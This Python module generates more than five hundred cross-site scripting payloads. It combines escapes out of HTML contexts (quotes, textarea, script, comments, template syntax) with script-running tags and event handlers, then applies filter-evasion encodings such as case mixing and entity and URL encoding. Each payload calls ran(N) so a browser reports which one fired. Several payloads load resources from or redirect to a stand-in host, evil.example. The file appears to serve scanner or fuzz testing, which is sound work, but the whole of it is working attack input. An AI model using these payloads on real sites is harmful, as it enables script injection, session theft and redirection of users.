"""Text that would run a script or load a picture if a page took it for markup: over five hundred.

Made of ways out of where text stands, of what would then run, and of ways to write that; each calls
``ran(NUMBER)``, so that a browser says which one worked.
"""

from collections.abc import Callable
from itertools import product

# Out of where it stands: text, an attribute in either quotation mark, a field, a title, a comment.
WAYS_OUT = (
    "",
    '">',
    "'>",
    "</textarea>",
    "</title>",
    "</option></select>",
    "</script>",
    "--><!-- -->",
    "]]>",
    '" autofocus onfocus=ran({n}) x="',
    "' onmouseover=ran({n}) x='",
    "{{ran({n})}}${ran({n})}<%ran({n})%>",
)
WORKS = (
    "<script>ran({n})</script>",
    "<img src=x onerror=ran({n})>",
    "<img src=//evil.example/{n}.png>",
    "<svg onload=ran({n})>",
    "<svg><script>ran({n})</script></svg>",
    "<svg><animate onbegin=ran({n}) attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.ran({n})</script>'></iframe>",
    "<iframe src=javascript:parent.ran({n})></iframe>",
    "<body onload=ran({n})>",
    "<input autofocus onfocus=ran({n})>",
    "<details open ontoggle=ran({n})>",
    "<video><source onerror=ran({n})></video>",
    "<audio src=x onerror=ran({n})>",
    "<object data=javascript:ran({n})>",
    "<embed src=//evil.example/{n}>",
    "<marquee onstart=ran({n})>",
    "<math><mi xlink:href=javascript:ran({n})>x",
    "<a href=javascript:ran({n})>hier</a>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/{n}'>",
    "<link rel=stylesheet href=//evil.example/{n}.css>",
    "<style>@import'//evil.example/{n}'</style>",
    "<form action=//evil.example/{n}><button autofocus>x",
    "<template><script>ran({n})</script></template>",
)
WRITTEN: tuple[Callable[[str], str], ...] = (
    lambda text: text,
    lambda text: text.replace("script", "sCrIpT").replace("<img", "<ImG/").replace("on", "oN"),
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: text.replace(" ", "/").replace("=", " = "),
    lambda text: text.replace("<", "%3C").replace(">", "%3E"),
)


def payloads() -> list[str]:
    """All of them, each with its own number, those that are alike far apart."""
    made = product(WRITTEN, WORKS, WAYS_OUT)
    texts = [write(f"{out}{works}") for write, works, out in made]
    return [text.replace("{n}", str(number)) for number, text in enumerate(spread(texts))]


def spread(texts: list[str]) -> list[str]:
    """The same in another order: every seventh, then the next."""
    return [text for start in range(7) for text in texts[start::7]]
